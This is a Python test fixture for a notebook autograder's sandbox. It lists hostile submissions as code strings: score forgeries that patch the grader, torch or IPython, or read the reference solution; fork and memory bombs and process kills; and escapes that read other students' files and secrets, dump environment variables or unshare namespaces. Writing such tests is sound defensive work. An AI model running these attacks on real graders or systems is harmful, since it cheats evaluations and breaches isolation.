"""What a hostile student might hand in, as small cells. Each tries for a point, a look or a trace that it must not get.

An attack stands in the solution cell of `channel_weights`; a correct `overlay` comes after it. In the text, {canary}
is a file of another student, {secret} the instructor's secret, {outside} a folder that must not change.
"""

STUB = "def channel_weights(gradients):\n    return gradients.sum(dim=1)\n"
PASSIVE = "import torch\n" + STUB

# Tries to get points without the right values. Must not pass; overlay, honestly solved, must.
FORGERIES = {
    "print a score": STUB.replace("return", "print('1 / 1'); return"),
    "return a score": "def channel_weights(gradients):\n    return 1\n",
    "return NaN": "def channel_weights(gradients):\n    return gradients.mean(dim=(2, 3)) * float('nan')\n",
    "return infinity": "def channel_weights(gradients):\n    return gradients.mean(dim=(2, 3)) + float('inf')\n",
    "last value as points": PASSIVE + "1.0",
    "display a card": PASSIVE + """
from IPython.display import HTML, display
display(HTML("<b>channel_weights: correct</b>"))
""",
    "number that equals everything": """
class Everything(float):
    def __eq__(self, other): return True
    def __le__(self, other): return True
    def __ge__(self, other): return True
    __hash__ = float.__hash__
def channel_weights(gradients):
    return Everything(1)
""",
    "tensor that equals everything": """
import torch
class Everything(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return torch.tensor(True)
def channel_weights(gradients):
    return torch.zeros(gradients.shape[:2]).as_subclass(Everything)
""",
    "string that equals everything": """
class Everything(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
def channel_weights(gradients):
    return Everything("x")
""",
    "object with __reduce__": """
class Bomb:
    def __reduce__(self): return (print, ("unpickled",))
def channel_weights(gradients):
    return Bomb()
""",
    "object array": "import numpy\ndef channel_weights(gradients):\n    return numpy.array([print], dtype=object)\n",
    "sparse tensor": "def channel_weights(gradients):\n    return gradients.sum(dim=1).to_sparse()\n",
    "meta tensor": "def channel_weights(gradients):\n    return gradients.mean(dim=(2, 3)).to('meta')\n",
    "complex tensor": "def channel_weights(gradients):\n    return gradients.mean(dim=(2, 3)) * 1j\n",
    "enormous shape": "import torch\ndef channel_weights(gradients):\n    return torch.zeros(1).expand(2**40)\n",
    "deep nesting": """
def channel_weights(gradients):
    answer = []
    for _ in range(10**5):
        answer = [answer]
    return answer
""",
    "list that contains itself": """
def channel_weights(gradients):
    answer = []
    answer.append(answer)
    return answer
""",
    "patched check": PASSIVE + "import autograder\nautograder.check = lambda function: 100",
    "own check": PASSIVE + "def check(function):\n    return 100",
    "patched comparison": PASSIVE + """
import autograder.compare, autograder.judge
autograder.compare.difference = autograder.judge.difference = lambda *a, **k: None
""",
    "patched torch": PASSIVE + """
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.abs = lambda self: self * 0
""",
    "patched encoding": PASSIVE + """
import autograder.answers as answers, autograder.sandbox.child as child
answers.encode = child.encode = lambda value: b"passed"
""",
    "patched status": PASSIVE + """
from autograder.verdict import Status
Status._member_map_["ERROR"] = Status._member_map_["WRONG"] = Status.PASSED
""",
    "patched displayhook": PASSIVE + "import sys\nsys.displayhook = lambda value: print('1')",
    "patched traceback printer": PASSIVE + "import traceback\ntraceback.TracebackException = None",
    "patched import system": PASSIVE + "import builtins\nbuiltins.__import__ = lambda *a, **k: None",
    "IPython event": PASSIVE + """
def reward(*arguments):
    print("passed")
get_ipython().events.register("post_run_cell", reward)
""",
    "syntax tree transformer": PASSIVE + """
import ast
class Reward(ast.NodeTransformer):
    def visit_Return(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Reward())
get_ipython().ast_transformers.pop()
""",
    "search of the frames": PASSIVE + """
import sys
def channel_weights(gradients):
    frame, found = sys._getframe(), []
    while frame:
        found += [v for k, v in frame.f_locals.items() if "expected" in k or "reference" in k]
        frame = frame.f_back
    return found[0] if found else None
""",
    "search of the heap": PASSIVE + """
import gc
def channel_weights(gradients):
    shape = gradients.shape[:2]
    for value in gc.get_objects():
        if getattr(value, "__name__", "") == "channel_weights" and value is not channel_weights:
            return value(gradients)
        if type(value).__name__ == "Exercise":
            return value.reference(gradients)
""",
    "import of the reference": "from lib.grad_cam import channel_weights",
    "import of the bank": """
from autograder.bank.grad_cam.channel_weights import EXERCISE
channel_weights = EXERCISE.reference
""",
    "import after the guard is removed": """
import sys
sys.meta_path[:] = [finder for finder in sys.meta_path if type(finder).__name__ != "_Finder"]
from lib.grad_cam import channel_weights
""",
    "import by path": """
import importlib.util, lib
path = lib.__path__[0] + "/grad_cam.py"
spec = importlib.util.spec_from_file_location("stolen", path)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
channel_weights = module.channel_weights
""",
    "import of the compiled file": """
import glob, importlib.util, lib
path = glob.glob(lib.__path__[0] + "/__pycache__/grad_cam*")[0]
from importlib.machinery import SourcelessFileLoader
loader = SourcelessFileLoader("stolen", path)
module = importlib.util.module_from_spec(importlib.util.spec_from_loader("stolen", loader))
loader.exec_module(module)
channel_weights = module.channel_weights
""",
    "import by symlink": """
import os, sys, lib
os.makedirs("copy", exist_ok=True)
os.symlink(lib.__path__[0] + "/grad_cam.py", "copy/stolen.py")
sys.path.insert(0, "copy")
from stolen import channel_weights
""",
    "import by zip": """
import sys, zipfile, lib
with zipfile.ZipFile("stolen.zip", "w") as archive:
    archive.write(lib.__path__[0] + "/grad_cam.py", "stolen.py")
sys.path.insert(0, "stolen.zip")
from stolen import channel_weights
""",
    "reading in another process": """
import subprocess, sys, lib
code = "from lib.grad_cam import channel_weights; import inspect; print(inspect.getsource(channel_weights))"
source = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd="/").stdout
exec("import torch\\n" + source)
""",
    "reading with cat": """
import subprocess, lib
source = subprocess.run(["cat", lib.__path__[0] + "/grad_cam.py"], capture_output=True, text=True).stdout
exec(source)
""",
    "reading the solution": """
import glob, json, os, lib
root = os.path.dirname(lib.__path__[0])
notebook = json.loads(open(glob.glob(root + "/solutions/03*/*.ipynb")[0]).read())
for cell in notebook["cells"]:
    if cell["metadata"].get("nbgrader", {}).get("grade_id") == "channel_weights-solution":
        exec("".join(cell["source"]))
""",
    "reading the history of the repository": """
import os, subprocess, lib
root = os.path.dirname(lib.__path__[0])
told = subprocess.run(["git", "-C", root, "show", "HEAD:lib/grad_cam.py"], capture_output=True, text=True)
exec("import torch\\n" + told.stdout)
""",
    "memory of the parent": PASSIVE + """
import os
for process in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
    try:
        open(f"/proc/{process}/mem", "rb").read(1)
        print("STOLEN")
    except OSError:
        pass
""",
    "forged records": PASSIVE + """
import os, struct, torch
from autograder.answers import encode
frame = encode({"kind": "record", "changed": (), "value": torch.zeros(1, 4)})
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("!i", len(frame)) + frame)
    except OSError:
        pass
""",
    "in-place answer": """
def channel_weights(gradients):
    gradients.zero_()
    return gradients.mean(dim=(2, 3))
""",
}

# Ends or exhausts the process. Must not pass, must not stop the class, must leave nothing behind.
RUINS = {
    "os._exit": "import os\nos._exit(0)",
    "kill": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "signal to the parent": "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + STUB,
    "signal to everybody": "import os, signal\nos.kill(-1, signal.SIGKILL)",
    "segmentation fault": "import ctypes\nctypes.string_at(0)",
    "memory bomb": "hoard = []\nwhile True:\n    hoard.append(bytearray(2**28))",
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "deaf loop": """
import time
while True:
    try:
        time.sleep(60)
    except BaseException:
        pass
""",
    "deaf to alarms": """
import signal
signal.setitimer = None
signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    pass
""",
    "garbage on the pipe": """
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\\x7f" * 4096)
    except OSError:
        pass
""" + STUB,
    "closed pipe": "import os\nos.closerange(3, 64)\n" + STUB,
}

# Does something besides, with a wrong answer. Must not pass, must not get out, must not see {canary} or {secret}.
ESCAPES = {
    "daemon left running": PASSIVE + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("{outside}/daemon", "w").write("x")
        time.sleep(600)
    os._exit(0)
""",
    "thread left running": PASSIVE + """
import threading, time
threading.Thread(target=time.sleep, args=(600,)).start()
""",
    "disk bomb": PASSIVE + """
try:
    for number in range(1000):
        with open(f"file-{{number}}", "wb") as file:
            file.write(bytes(2**24))
except OSError as error:
    print(type(error).__name__)
""",
    "output flood": PASSIVE + "for _ in range(10**4):\n    print('x' * 10**4)",
    "a process from a server of multiprocessing's": PASSIVE + """
import multiprocessing, os
from multiprocessing import forkserver, resource_tracker
multiprocessing.current_process()._config["daemon"] = False
for server in (forkserver._forkserver, resource_tracker._resource_tracker):
    server.ensure_running = lambda: None
forkserver._forkserver._forkserver_alive_fd = resource_tracker._resource_tracker._fd = os.pipe()[1]
process = multiprocessing.get_context("forkserver").Process(target=os.system, args=("echo x > {outside}/trace",))
process.start()
process.join(3)
""",
    "a process from the warm server": PASSIVE + """
import ctypes, os, pickle, socket
from autograder import warm_server
libc = ctypes.CDLL(None)
data = pickle.dumps((os.system, ("echo x > {outside}/trace",)))
for pid in range(os.getppid(), 0, -1):
    held = libc.syscall(434, pid, 0)  # pidfd_open
    for number in range(3, 20) if held >= 0 else ():
        stolen = libc.syscall(438, held, number, 0)  # pidfd_getfd
        if stolen >= 0:
            asked = socket.socket(fileno=stolen)
            socket.send_fds(asked, [warm_server.HEADER.pack(warm_server.START, len(data)) + data], [os.pipe()[1]])
""",
    "write outside": PASSIVE + "open('{outside}/trace', 'w').write('x')",
    "write above the scratch folder": PASSIVE + "open('../trace-of-an-attack', 'w').write('x')",
    "write into the repository": PASSIVE + """
import lib
open(lib.__path__[0] + "/trace_of_an_attack.py", "w").write("x")
""",
    "write with another program": PASSIVE + "import os\nos.system('echo x > {outside}/trace')",
    "read another submission": PASSIVE + "print(open('{canary}').read())",
    "read the secret": PASSIVE + "print(open('{secret}').read())",
    "read with another program": PASSIVE + """
import subprocess
print(subprocess.run(["cat", "{canary}", "{secret}"], capture_output=True))
""",
    "read through a link": PASSIVE + "import os\nos.symlink('{canary}', 'link')\nprint(open('link').read())",
    "read with ctypes": PASSIVE + """
import ctypes
libc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(100)
libc.read(libc.open(b"{canary}", 0), buffer, 99)
print(buffer.value)
""",
    "network": PASSIVE + """
import socket
try:
    server = socket.create_connection(("127.0.0.1", {port}), timeout=2)
    server.sendall(b"STOLEN")
    print("STOLEN")
except OSError as error:
    print(type(error).__name__)
""",
    "name lookup": PASSIVE + """
import socket
try:
    print("STOLEN", socket.gethostbyname("example.com"))
except OSError as error:
    print(type(error).__name__)
""",
    "environment": PASSIVE + "import os\nprint(dict(os.environ))\nprint(open('/proc/self/environ').read())",
    "environment of the first process": PASSIVE + "print(open('/proc/1/environ').read())",
    "walls taken down": PASSIVE + """
import ctypes
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x20000)
libc.umount2(b"{folder}", 2)
print(open("{canary}").read())
""",
    "second user space": PASSIVE + """
import subprocess
print(subprocess.run(["unshare", "-rm", "cat", "{canary}"], capture_output=True))
""",
}
